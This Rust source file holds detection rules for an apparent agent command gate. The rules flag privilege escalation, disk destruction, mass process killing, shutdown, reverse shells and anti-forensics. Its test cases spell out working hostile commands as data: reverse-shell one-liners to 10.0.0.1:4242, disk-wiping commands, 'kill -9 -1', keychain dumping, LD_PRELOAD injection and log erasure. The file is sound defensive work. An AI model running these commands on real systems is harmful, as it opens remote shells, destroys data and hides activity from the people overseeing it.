//! System rules: privilege escalation, disk tools, killing everything, power, reverse shells,
//! code injection through the environment, persistence, anti-forensics, system configuration.

use toolgate_protocol::Risk;

use super::{Rule, View};
use crate::exec::SHELLS;

fn privilege(v: &View<'_>) -> Option<String> {
    const PRIV: &[&str] = &[
        "sudo", "doas", "pkexec", "run0", "runuser", "chroot", "nsenter",
    ];
    if let Some(w) = v.rec.wrappers.iter().find(|w| PRIV.contains(&w.as_str())) {
        return Some(format!("runs with elevated privileges through `{w}`"));
    }
    match v.program() {
        p if PRIV.contains(&p) => Some(format!("`{p}` elevates privileges")),
        "su" | "sudoedit" | "visudo" | "usermod" | "useradd" | "userdel" | "adduser"
        | "deluser" | "groupadd" | "groupdel" | "gpasswd" | "passwd" | "chpasswd" | "setcap"
        | "newgrp" | "vipw" => Some(format!(
            "`{}` changes users, groups or privileges",
            v.program()
        )),
        _ => None,
    }
}

fn disk_tool(v: &View<'_>) -> Option<String> {
    let p = v.program();
    let dev = v.args.iter().find(|a| a.starts_with("/dev/")).copied();
    // `parted -s` is script mode, not a listing; `mkfs -n` only simulates.
    let writes_parted = p == "parted"
        && v.args
            .iter()
            .any(|a| matches!(*a, "mklabel" | "mkpart" | "rm" | "resizepart" | "mkfs"));
    let listing = !writes_parted
        && (v.any_arg(&["-l", "--list", "-p", "print", "--print", "-s", "--show"])
            || (p.starts_with("mk") && v.short('n')));
    // Only devices make these catastrophic; image files are the next rule's business.
    let _ = dev?;
    match p {
        // `mkfs -n` / `mke2fs -n` only show what they would do.
        _ if (p.starts_with("mkfs") || p == "mke2fs") && listing => None,
        _ if p.starts_with("mkfs")
            || matches!(
                p,
                "mke2fs" | "mkswap" | "mkdosfs" | "newfs" | "wipefs" | "blkdiscard"
            ) =>
        {
            Some(format!(
                "`{p}` destroys the file system on {}",
                dev.unwrap_or("its target")
            ))
        }
        "fdisk" | "sfdisk" | "cfdisk" | "parted" | "gdisk" | "sgdisk" | "gparted" | "diskutil"
            if !listing =>
        {
            if p == "diskutil"
                && !v.args.iter().any(|a| {
                    matches!(
                        *a,
                        "eraseDisk"
                            | "eraseVolume"
                            | "partitionDisk"
                            | "zeroDisk"
                            | "secureErase"
                            | "reformat"
                    )
                })
            {
                return None;
            }
            Some(format!("`{p}` rewrites a partition table"))
        }
        "cryptsetup" if v.any_arg(&["luksFormat", "erase", "luksErase", "reencrypt"]) => {
            Some("destroys encrypted volume headers".into())
        }
        "mdadm" if v.any_arg(&["--zero-superblock", "--create", "-C"]) => {
            Some("rewrites RAID metadata".into())
        }
        "zpool" | "zfs" if v.any_arg(&["destroy", "labelclear"]) => {
            Some(format!("`{p} destroy` deletes a pool or dataset"))
        }
        "hdparm"
            if v.args.iter().any(|a| {
                a.contains("security-erase") || a.contains("trim-sector") || *a == "--dco-restore"
            }) =>
        {
            Some("erases a disk".into())
        }
        "pvremove" | "vgremove" | "lvremove" => Some(format!("`{p}` destroys volume groups")),
        "nvme" if v.any_arg(&["format", "sanitize", "delete-ns", "detach-ns"]) => {
            Some("erases or removes an NVMe namespace".into())
        }
        "sg_format" | "sg_sanitize" | "flashrom" if !listing => {
            Some(format!("`{p}` overwrites a device"))
        }
        _ => None,
    }
}

fn disk_admin(v: &View<'_>) -> Option<String> {
    let p = v.program();
    let listing = v.any_arg(&[
        "-l", "--list", "-p", "print", "--print", "-s", "--show", "--report", "luksDump", "isLuks",
        "status",
    ]) || v.args.iter().any(|a| a.starts_with("--get"));
    if listing {
        return None;
    }
    match p {
        _ if p.starts_with("mkfs")
            || matches!(
                p,
                "mke2fs"
                    | "mkswap"
                    | "wipefs"
                    | "fdisk"
                    | "sfdisk"
                    | "cfdisk"
                    | "parted"
                    | "gdisk"
                    | "sgdisk"
                    | "losetup"
            ) =>
        {
            (!v.args.is_empty()).then(|| format!("`{p}` writes a file system or partition table"))
        }
        "vgremove" | "lvremove" | "pvremove" | "blockdev" | "partprobe" | "pvcreate"
        | "vgcreate" | "lvcreate" | "lvresize" | "resize2fs" | "tune2fs" | "e2fsck" | "fsck"
        | "xfs_repair" | "cryptsetup" | "dmsetup" | "kpartx" => {
            Some(format!("`{p}` changes disks or volumes"))
        }
        "dump" | "restore" if v.args.iter().any(|a| a.starts_with("/dev/")) => {
            Some(format!("`{p}` reads or writes a raw file system"))
        }
        _ => None,
    }
}

fn kill_by_name(v: &View<'_>) -> Option<String> {
    matches!(v.program(), "killall" | "pkill" | "skill" | "slay").then(|| {
        format!(
            "`{}` kills every process matching a name, possibly the agent's own",
            v.program()
        )
    })
}

fn mac_automation(v: &View<'_>) -> Option<String> {
    let p = v.program();
    match p {
        "osascript"
            if v.args.iter().any(|a| {
                a.contains("tell application")
                    || a.contains("Application(")
                    || a.contains("System Events")
            }) =>
        {
            Some("controls other applications".into())
        }
        "security"
            if v.args.iter().any(|a| {
                a.starts_with("find-") && a.ends_with("password")
                    || *a == "dump-keychain"
                    || *a == "export"
                    || a.starts_with("delete-")
            }) =>
        {
            Some("reads or changes the keychain".into())
        }
        "open" if v.any_arg(&["-a", "-b"]) || v.args.iter().any(|a| a.ends_with(".app")) => {
            Some("launches an application outside the sandbox".into())
        }
        "systemsetup" | "scutil" | "pmset" | "fdesetup" | "tmutil" | "dscl" | "networksetup"
        | "shortcuts" | "automator" => {
            Some(format!("`{p}` changes system settings or runs automation"))
        }
        "defaults" if v.any_arg(&["write", "delete"]) => {
            Some("changes application or system preferences".into())
        }
        _ => None,
    }
}

fn kill_all(v: &View<'_>) -> Option<String> {
    match v.program() {
        "kill" => {
            let targets = v
                .args
                .iter()
                .skip(usize::from(v.args.first().is_some_and(|a| {
                    a.starts_with('-') && *a != "--" && *a != "-1" && v.args.len() > 1
                })));
            let all = targets
                .filter(|a| **a != "--")
                .any(|a| *a == "-1" || *a == "1");
            all.then(|| "signals every process (`kill -1` / init)".into())
        }
        "killall5" => Some("kills every process".into()),
        "pkill" | "killall" => {
            let pat = v.positionals(&[
                "-u", "-U", "-g", "-G", "-P", "-s", "--signal", "-t", "-F", "-n",
            ]);
            let everything = pat
                .iter()
                .any(|p| matches!(*p, "." | ".*" | "-" | "^" | "''"))
                || (pat.is_empty() && v.any_arg(&["-u", "-U", "--user"]));
            everything.then(|| "kills every process of a user or matching anything".into())
        }
        _ => None,
    }
}

fn power(v: &View<'_>) -> Option<String> {
    let p = v.program();
    match p {
        "shutdown" | "reboot" | "halt" | "poweroff"
            if !v.any_arg(&["-c", "--help", "--version"]) =>
        {
            Some(format!("`{p}` takes the machine down"))
        }
        "init" | "telinit" if v.args.first().is_some_and(|a| matches!(*a, "0" | "6")) => {
            Some("halts or reboots".into())
        }
        "systemctl"
            if v.args.iter().any(|a| {
                matches!(
                    *a,
                    "poweroff" | "reboot" | "halt" | "kexec" | "emergency" | "rescue" | "isolate"
                )
            }) =>
        {
            Some("takes the machine down or changes its target".into())
        }
        _ => None,
    }
}

fn services(v: &View<'_>) -> Option<String> {
    let p = v.program();
    let sub = v
        .positionals(&["-H", "--host", "-M"])
        .first()
        .copied()
        .unwrap_or("");
    match p {
        "systemctl"
            if matches!(
                sub,
                "stop"
                    | "disable"
                    | "mask"
                    | "kill"
                    | "daemon-reexec"
                    | "isolate"
                    | "start"
                    | "restart"
                    | "try-restart"
                    | "reload"
                    | "reload-or-restart"
                    | "try-reload-or-restart"
                    | "enable"
                    | "set-property"
                    | "edit"
                    | "revert"
            ) =>
        {
            Some(format!("`systemctl {sub}` changes a system service"))
        }
        "service" | "rc-service"
            if v.args.get(1).is_some_and(|a| {
                matches!(
                    *a,
                    "stop" | "restart" | "start" | "reload" | "force-reload" | "zap"
                )
            }) =>
        {
            Some("controls a system service".into())
        }
        "supervisorctl" | "pm2" | "sv"
            if matches!(
                sub,
                "stop"
                    | "restart"
                    | "start"
                    | "reload"
                    | "kill"
                    | "delete"
                    | "remove"
                    | "down"
                    | "up"
            ) =>
        {
            Some(format!("`{p} {sub}` controls a service"))
        }
        "launchctl"
            if matches!(
                sub,
                "unload" | "remove" | "bootout" | "disable" | "load" | "bootstrap"
            ) =>
        {
            Some(format!("`launchctl {sub}` changes system services"))
        }
        "init" | "telinit" if !v.args.is_empty() => Some("changes the run level".into()),
        "crontab" if v.short('r') || v.short('e') || !v.positionals(&["-u"]).is_empty() => {
            Some("replaces or removes the crontab (persistence)".into())
        }
        "iptables" | "ip6tables" | "nft" | "ufw" | "firewall-cmd" | "pfctl"
            if !v.any_arg(&["-L", "-S", "status", "--list", "list", "--list-all", "-s"]) =>
        {
            Some(format!("`{p}` changes the firewall"))
        }
        "ip" | "ifconfig" | "route"
            if v.args
                .iter()
                .any(|a| matches!(*a, "down" | "flush" | "del" | "delete")) =>
        {
            Some("changes network configuration".into())
        }
        "mount" | "umount" | "swapoff" | "swapon" if !v.args.is_empty() => {
            Some(format!("`{p}` changes mounts"))
        }
        "sysctl" if v.short('w') || v.args.iter().any(|a| a.contains('=')) => {
            Some("changes kernel parameters".into())
        }
        "nginx" | "haproxy" | "apachectl" | "httpd" | "caddy"
            if v.any_arg(&["-s", "-sf", "-st", "-k", "stop"]) =>
        {
            Some(format!("`{p}` signals or replaces a running server"))
        }
        "ansible"
            if !v.args.windows(2).any(|w| {
                w[0] == "-m" && matches!(w[1], "ping" | "setup" | "debug" | "gather_facts")
            }) && !v.long("--check") =>
        {
            Some("runs a module on remote hosts".into())
        }
        "ansible-playbook"
            if !v.long("--check")
                && !v.long("--syntax-check")
                && !v.long("--list-tasks")
                && !v.long("--list-hosts") =>
        {
            Some("runs a playbook against hosts".into())
        }
        "diskutil"
            if v.args.iter().any(|a| {
                a.starts_with("erase")
                    || a.starts_with("delete")
                    || a.starts_with("partition")
                    || *a == "zeroDisk"
                    || *a == "secureErase"
                    || *a == "unmountDisk"
            }) =>
        {
            Some("erases or repartitions a disk".into())
        }
        "ssh-add" if v.short('d') || v.short('D') => {
            Some("removes SSH identities from the agent".into())
        }
        "ssh-keygen" if v.short('R') => Some("removes a host key from known_hosts".into()),
        "redis-cli"
            if v.args.iter().any(|a| {
                matches!(
                    a.to_ascii_uppercase().as_str(),
                    "DEL"
                        | "UNLINK"
                        | "CONFIG"
                        | "EXPIRE"
                        | "RENAME"
                        | "MIGRATE"
                        | "SLAVEOF"
                        | "REPLICAOF"
                )
            }) =>
        {
            Some("changes data or configuration on a Redis server".into())
        }
        "modprobe" | "insmod" | "rmmod" | "kextload" => Some("changes kernel modules".into()),
        "nvram" | "csrutil" | "spctl" | "bcdedit" => {
            Some(format!("`{p}` changes firmware or security settings"))
        }
        _ => None,
    }
}

fn packages(v: &View<'_>) -> Option<String> {
    let p = v.program();
    let sub = v
        .positionals(&["-o", "-c", "-t"])
        .first()
        .copied()
        .unwrap_or("");
    match p {
        "apt" | "apt-get" | "aptitude" | "dnf" | "yum" | "zypper" | "pacman" | "apk" | "snap"
        | "port" | "emerge" | "dpkg" | "rpm"
            if matches!(sub, "remove" | "purge" | "autoremove" | "erase" | "del")
                || v.args.iter().any(|a| {
                    matches!(
                        *a,
                        "-R" | "-Rns" | "-Rs" | "-e" | "--purge" | "-P" | "--remove"
                    )
                }) =>
        {
            Some(format!("`{p}` removes system packages"))
        }
        "npm" | "pnpm" | "yarn" | "bun"
            if (v.short('g') || v.long("--global") || sub == "global")
                && v.args.iter().any(|a| {
                    matches!(
                        *a,
                        "install" | "i" | "add" | "uninstall" | "remove" | "rm" | "update" | "link"
                    )
                }) =>
        {
            Some("changes globally installed packages".into())
        }
        "pip" | "pip3" if sub == "install" && v.any_arg(&["--break-system-packages"]) => {
            Some("installs into the system Python".into())
        }
        _ => None,
    }
}

fn reverse_shell(v: &View<'_>) -> Option<String> {
    let p = v.program();
    // Redirection to /dev/tcp or /dev/udp.
    let net_redirect =
        v.rec.redirects.iter().find(|r| {
            r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
        });
    if let Some(r) = net_redirect
        && (SHELLS.contains(&p)
            || p.is_empty()
            || p == "exec"
            || crate::interp::interp_of(p).is_some()
            || v.rec.redirects.len() > 1)
    {
        return Some(format!("connects a shell to {}", r.target.text));
    }
    if matches!(
        p,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    ) && v.args.iter().any(|a| {
        matches!(*a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
            || (a.starts_with('-')
                && !a.starts_with("--")
                && (a.ends_with('e') || a.ends_with('c'))
                && a.len() <= 4)
    }) {
        return Some(format!("`{p} -e` serves a program over the network"));
    }
    if p == "socat"
        && v.args.iter().any(|a| {
            let l = a.to_ascii_lowercase();
            l.starts_with("exec:") || l.starts_with("system:") || l.contains(",exec:")
        })
    {
        return Some("`socat … exec:` connects a program to the network".into());
    }
    // A shell and a network tool in the same pipeline.
    if SHELLS.contains(&p) && v.rec.stage > 0 {
        let peers: Vec<&str> = v
            .all
            .iter()
            .filter(|r| r.pipeline == v.rec.pipeline && r.stage != v.rec.stage)
            .map(|r| r.program.as_str())
            .collect();
        let after = v.all.iter().any(|r| {
            r.pipeline == v.rec.pipeline
                && r.stage > v.rec.stage
                && matches!(
                    r.program.as_str(),
                    "nc" | "ncat" | "netcat" | "telnet" | "openssl" | "socat"
                )
        });
        if after
            && peers.iter().any(|q| {
                matches!(
                    *q,
                    "nc" | "ncat" | "netcat" | "telnet" | "openssl" | "socat" | "cat"
                )
            })
        {
            return Some("pipes a network connection through a shell and back".into());
        }
    }
    None
}

fn listener(v: &View<'_>) -> Option<String> {
    let p = v.program();
    (matches!(p, "nc" | "ncat" | "netcat") && v.short('l'))
        .then(|| "opens a listening socket".into())
}

fn env_injection(v: &View<'_>) -> Option<String> {
    // Variables whose value is a command (`GIT_SSH_COMMAND`, `EDITOR`, `PAGER`, `PS4`, …)
    // are not here: their value is walked as the command it is, so `GIT_EDITOR=true` is
    // `true` and `EDITOR='rm -rf ~'` is `rm -rf ~`.
    const VARS: &[&str] = &[
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "DYLD_INSERT_LIBRARIES",
        "DYLD_LIBRARY_PATH",
        "BASH_ENV",
        "ENV",
        "PYTHONSTARTUP",
        "PYTHONPATH",
        "PERL5OPT",
        "PERL5LIB",
        "RUBYOPT",
        "GIT_CONFIG_PARAMETERS",
        "GIT_CONFIG_COUNT",
        "GIT_CONFIG_GLOBAL",
        "GIT_EXEC_PATH",
        "LD_AUDIT",
    ];
    /// Variables whose value is a command the program runs; the value is walked as that
    /// command, and a program other than the usual editors, pagers and plain `ssh` is a
    /// finding of its own (`LESSOPEN='|./x %s' less f` runs `./x`).
    const COMMAND_VARS: &[&str] = &[
        "PROMPT_COMMAND",
        "GIT_SSH_COMMAND",
        "GIT_EXTERNAL_DIFF",
        "GIT_PAGER",
        "GIT_EDITOR",
        "PAGER",
        "EDITOR",
        "VISUAL",
        "LESSOPEN",
        "LESSCLOSE",
        "MANPAGER",
        "GIT_ASKPASS",
        "SSH_ASKPASS",
        "GIT_SEQUENCE_EDITOR",
        "GIT_PROXY_COMMAND",
    ];
    const HARMLESS_COMMANDS: &[&str] = &[
        "true",
        "false",
        ":",
        "cat",
        "less",
        "more",
        "most",
        "bat",
        "delta",
        "vim",
        "vi",
        "nvim",
        "nano",
        "emacs",
        "emacsclient",
        "code",
        "subl",
        "micro",
        "hx",
        "kak",
        "ssh",
        "head",
        "tail",
    ];
    /// Node options that load code or open a debugger port.
    const NODE_LOADERS: &[&str] = &[
        "--require",
        "-r",
        "--import",
        "--loader",
        "--experimental-loader",
        "--inspect",
        "--inspect-brk",
    ];
    let hit = v.rec.env.iter().find(|(k, val)| {
        let runs_other = COMMAND_VARS.contains(&k.as_str())
            && val
                .trim_start_matches(['|', '-'])
                .split_whitespace()
                .next()
                .is_some_and(|p| !HARMLESS_COMMANDS.contains(&crate::exec::basename(p).as_str()));
        runs_other
            || VARS.contains(&k.as_str())
            || k.starts_with("BASH_FUNC_")
            || (k == "NODE_OPTIONS" && val.split([' ', '=']).any(|w| NODE_LOADERS.contains(&w)))
    });
    hit.map(|(k, val)| format!("sets `{k}={val}`, which makes programs load or run other code"))
}

fn anti_forensics(v: &View<'_>) -> Option<String> {
    let p = v.program();
    match p {
        "history" if v.short('c') || v.short('w') && v.args.contains(&"/dev/null") => {
            Some("clears the shell history".into())
        }
        "unset" if v.any_arg(&["HISTFILE"]) => Some("disables the shell history".into()),
        "export"
            if v.args
                .iter()
                .any(|a| a.starts_with("HISTFILE=") || a.starts_with("HISTSIZE=0")) =>
        {
            Some("disables the shell history".into())
        }
        "journalctl"
            if v.args
                .iter()
                .any(|a| a.starts_with("--vacuum") || *a == "--rotate") =>
        {
            Some("deletes system logs".into())
        }
        _ => {
            let hist = v.fx.paths.iter().find(|u| {
                u.access != toolgate_protocol::Access::Read
                    && u.path.as_ref().is_some_and(|p| {
                        let s = p.to_string_lossy();
                        s.ends_with("_history")
                            || s.starts_with("/var/log/")
                            || s.ends_with("/wtmp")
                            || s.ends_with("/lastlog")
                    })
            });
            hist.map(|u| format!("erases logs or history ({})", u.word))
        }
    }
}

/// System rules.
#[rustfmt::skip]
pub(crate) const RULES: &[Rule] = &[
    Rule { id: "priv.escalate", category: "privilege_escalation", risk: Risk::High, programs: &[], test: privilege, matches: &["sudo apt install foo", "sudo -i", "doas ls", "su -", "su -c 'id' root", "usermod -aG sudo bob", "setcap cap_net_raw+ep x", "pkexec ls"], not_matches: &["echo sudo", "ls", "git commit -m 'sudo fix'"]},
    Rule { id: "disk.format", category: "disk_destruction", risk: Risk::Catastrophic, programs: &[], test: disk_tool, matches: &["mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sdb", "wipefs -a /dev/sda", "fdisk /dev/sda", "parted /dev/sda mklabel gpt", "parted -s /dev/sda mklabel gpt", "sgdisk --zap-all /dev/sda", "cryptsetup luksFormat /dev/sdb"], not_matches: &["fdisk -l", "parted -l", "lsblk", "sgdisk -p /dev/sda", "parted /dev/sda print"]},
    Rule { id: "disk.admin", category: "disk_destruction", risk: Risk::High, programs: &[], test: disk_admin, matches: &["mkfs.ext4 disk.img", "fdisk /tmp/test.img", "blockdev --setro /dev/sda", "partprobe /dev/sda", "cryptsetup luksRemoveKey /dev/sda1", "dump -0f /backup.dump /dev/sda1"], not_matches: &["fdisk -l", "blockdev --getro /dev/sda", "cryptsetup luksDump /dev/sda1", "mkfs.ext4"]},
    Rule { id: "proc.kill_by_name", category: "process_kill", risk: Risk::High, programs: &["killall", "pkill", "skill", "slay"], test: kill_by_name, matches: &["killall node", "pkill -f 'node server.js'", "killall -9 node"], not_matches: &["kill 1234", "pgrep node"]},
    Rule { id: "sys.mac_automation", category: "system_modification", risk: Risk::High, programs: &[], test: mac_automation, matches: &["osascript -e 'tell application \"Finder\" to empty trash'", "security dump-keychain", "open -a Terminal", "systemsetup -settimezone UTC", "defaults write com.apple.dock x -bool true", "shortcuts run 'My Shortcut'"], not_matches: &["open README.md", "osascript -e 'display notification \"x\"'", "defaults read com.apple.dock"]},
    Rule { id: "proc.kill_all", category: "kill_all_processes", risk: Risk::Catastrophic, programs: &["kill", "killall5", "pkill", "killall"], test: kill_all, matches: &["kill -9 -1", "kill -- -1", "kill -KILL -1", "killall5 -9", "pkill -9 -u bob", "kill 1"], not_matches: &["kill 1234", "kill -9 4242", "pkill -f 'npm run dev'", "kill -HUP 33"]},
    Rule { id: "sys.power", category: "system_shutdown", risk: Risk::Catastrophic, programs: &[], test: power, matches: &["shutdown -h now", "reboot", "sudo poweroff", "init 0", "systemctl reboot"], not_matches: &["shutdown -c", "systemctl status x"]},
    Rule { id: "sys.services", category: "system_modification", risk: Risk::High, programs: &[], test: services, matches: &["systemctl stop nginx", "crontab -r", "crontab jobs.txt", "iptables -F", "ufw disable", "ip link set eth0 down", "mount /dev/sdb1 /mnt", "sysctl -w x=1"], not_matches: &["systemctl status nginx", "crontab -l", "iptables -L", "ufw status", "ip addr", "mount"]},
    Rule { id: "sys.packages", category: "system_modification", risk: Risk::High, programs: &[], test: packages, matches: &["apt-get remove -y nginx", "apt purge x", "npm install -g pkg", "yarn global add x", "pacman -Rns x"], not_matches: &["npm install", "apt list --installed", "pip install -r requirements.txt"]},
    Rule { id: "net.reverse_shell", category: "reverse_shell", risk: Risk::Catastrophic, programs: &[], test: reverse_shell, matches: &["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "sh -i >& /dev/udp/10.0.0.1/4242 0>&1", "exec 5<>/dev/tcp/10.0.0.1/4242", "nc -e /bin/sh 10.0.0.1 4242", "ncat 10.0.0.1 4242 -e /bin/bash", "socat tcp:10.0.0.1:4242 exec:/bin/sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196"], not_matches: &["nc -z host 80", "echo /dev/tcp/x", "cat file | sh -n"]},
    Rule { id: "net.listener", category: "network_listener", risk: Risk::High, programs: &["nc", "ncat", "netcat"], test: listener, matches: &["nc -lvnp 4444", "ncat -l 8080"], not_matches: &["nc -z host 80"]},
    Rule { id: "env.injection", category: "code_execution", risk: Risk::High, programs: &[], test: env_injection, matches: &["LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x bash -c true", "NODE_OPTIONS='--require ./x.js' npm test", "PYTHONPATH=/tmp/evil python3 -m pytest", "LESSOPEN='|./x %s' less f", "GIT_SSH_COMMAND='sh -c id' git fetch"], not_matches: &["FOO=1 ls", "RUST_LOG=debug cargo run", "GIT_EDITOR=true git rebase --continue", "GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~3", "GIT_SSH_COMMAND='ssh -i ./deploy_key' git fetch", "NODE_OPTIONS=--max-old-space-size=4096 npm run build"]},
    Rule { id: "anti_forensics", category: "anti_forensics", risk: Risk::High, programs: &[], test: anti_forensics, matches: &["history -c", "unset HISTFILE", "rm ~/.bash_history", "echo > /var/log/auth.log", "journalctl --vacuum-time=1s"], not_matches: &["history", "cat ~/.bash_history"]},
];
